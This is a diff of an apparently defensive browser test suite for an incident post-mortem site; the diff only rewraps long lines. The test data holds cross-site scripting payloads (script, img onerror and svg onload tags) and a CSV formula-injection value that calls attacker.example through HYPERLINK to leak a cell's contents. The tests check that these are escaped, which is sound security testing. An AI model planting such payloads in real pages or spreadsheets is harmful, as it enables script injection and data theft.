@@ -69,9 +69,22 @@ describe('markup written in post-mortems, reading lists and the catalog', () => 
       '/': [incident.title, organisation.tagline],
       '/incidents/': [incident.title],
       [`/incidents/${ID}/`]: [
-        incident.title, incident.summary, incident.response.rationale, incident.response.helped_by[0], incident.authors[0], incident.release.ref,
-        incident.customer_impact.description, incident.contributing_factors[0].description, ACTION.title, ACTION.owner, incident.timeline[0].text,
-        "<script>window.pwned='body'</script>", '<img src=x onerror=alert(1)>', 'a < b > c', list.title, service.slos[0].name,
+        incident.title,
+        incident.summary,
+        incident.response.rationale,
+        incident.response.helped_by[0],
+        incident.authors[0],
+        incident.release.ref,
+        incident.customer_impact.description,
+        incident.contributing_factors[0].description,
+        ACTION.title,
+        ACTION.owner,
+        incident.timeline[0].text,
+        "<script>window.pwned='body'</script>",
+        '<img src=x onerror=alert(1)>',
+        'a < b > c',
+        list.title,
+        service.slos[0].name,
       ],
       '/services/': [service.description],
       '/services/checkout-api/': [service.description, service.slos[0].name, incident.title],
@@ -108,7 +121,9 @@ describe('markup written in post-mortems, reading lists and the catalog', () => 
     expect(await page.title()).toBe(`${incident.title} · ${organisation.title}`);
     expect(await page.locator('h1').textContent()).toBe(incident.title);
     expect(await page.locator('meta[name="description"]').getAttribute('content')).toBe(incident.summary);
-    expect(await page.locator('.list-position[data-list-position="markup"]').getAttribute('aria-label')).toBe(`Reading list: ${list.title}`);
+    expect(await page.locator('.list-position[data-list-position="markup"]').getAttribute('aria-label')).toBe(
+      `Reading list: ${list.title}`,
+    );
     await page.goto(`${server.url}/services/checkout-api/`);
     expect(await page.locator('meta[name="description"]').getAttribute('content')).toBe(service.description);
     await page.goto(`${server.url}/`);
@@ -124,7 +139,9 @@ describe('markup written in post-mortems, reading lists and the catalog', () => 
     await expect.poll(() => title.allTextContents(), { timeout: 15_000 }).toEqual([incident.title]);
     expect(await title.getAttribute('href')).toBe(`/incidents/${ID}/`);
     const excerpt = page.locator('.search-result-excerpt').first();
-    expect(await excerpt.textContent()).toContain("Zzbody The error page printed <script>window.pwned='body'</script> and <img src=x onerror=alert(1)>");
+    expect(await excerpt.textContent()).toContain(
+      "Zzbody The error page printed <script>window.pwned='body'</script> and <img src=x onerror=alert(1)>",
+    );
     expect(await excerpt.locator('mark').allTextContents()).toEqual(['Zzbody']);
     expect(await page.locator(`#search :is(${INJECTED})`).count()).toBe(0);
     expect(await ran()).toEqual([]);
@@ -160,9 +177,9 @@ describe('markup written in post-mortems, reading lists and the catalog', () => 
 
   it('is one text cell per field in the action-item CSV, with the formula neutralised', () => {
     expect(readFileSync(join(dist, 'trends/action-items.csv'), 'utf8').split('\r\n')[1]).toBe(
-      `2026-12-01,false,P1,open,"'=HYPERLINK(""https://attacker.example/?d=""&A1,""Zzaction <img src=x onerror=window.pwned=1>"")",prevent,`
-      + `'@payments <b>team</b>,payments,,${ID},"Zzmarkup <img src=x onerror=window.pwned='title'> checkout & <b>bold</b> ""quoted"" &amp; failed",`
-      + `${SITE}/incidents/${ID}/`,
+      `2026-12-01,false,P1,open,"'=HYPERLINK(""https://attacker.example/?d=""&A1,""Zzaction <img src=x onerror=window.pwned=1>"")",prevent,` +
+        `'@payments <b>team</b>,payments,,${ID},"Zzmarkup <img src=x onerror=window.pwned='title'> checkout & <b>bold</b> ""quoted"" &amp; failed",` +
+        `${SITE}/incidents/${ID}/`,
     );
   });
 
@@ -214,10 +231,15 @@ export async function debouncedSearch() { return ANSWER; }
       expect(await page.locator('.search-filter label').allTextContents()).toEqual([' SEV1 (1)', ` Payments${evil} (2)`, ' Platform (1)']);
       expect(await page.locator('.search-message').textContent()).toBe('2 results for hit');
       expect(await page.locator('.search-result-title').allTextContents()).toEqual([`Title ${evil}`, 'Script address']);
-      expect(await page.locator('.search-result-title a').evaluateAll((links) => links.map((a) => a.getAttribute('href')))).toEqual(['/incidents/x/']);
+      expect(await page.locator('.search-result-title a').evaluateAll((links) => links.map((a) => a.getAttribute('href')))).toEqual([
+        '/incidents/x/',
+      ]);
       expect(await page.locator('.search-sub-result-title').allTextContents()).toEqual(['Timeline <svg onload="window.pwned=3">']);
       expect(await page.locator('.search-sub-result-title a').getAttribute('href')).toBe('/incidents/y/#timeline');
-      expect(await page.locator('.search-result-excerpt').allTextContents()).toEqual([`before hit <script>window.pwned=2</script> and ${evil} after`, 'hit <b>bold</b>']);
+      expect(await page.locator('.search-result-excerpt').allTextContents()).toEqual([
+        `before hit <script>window.pwned=2</script> and ${evil} after`,
+        'hit <b>bold</b>',
+      ]);
       expect(await page.locator('.search-result-excerpt mark').allTextContents()).toEqual(['hit', 'hit']);
       expect(await page.locator('.search-result-meta li').allTextContents()).toEqual(['Date: <b>1 Jan</b>']);
       expect(await page.locator(`#search :is(${INJECTED}, b)`).count()).toBe(0);
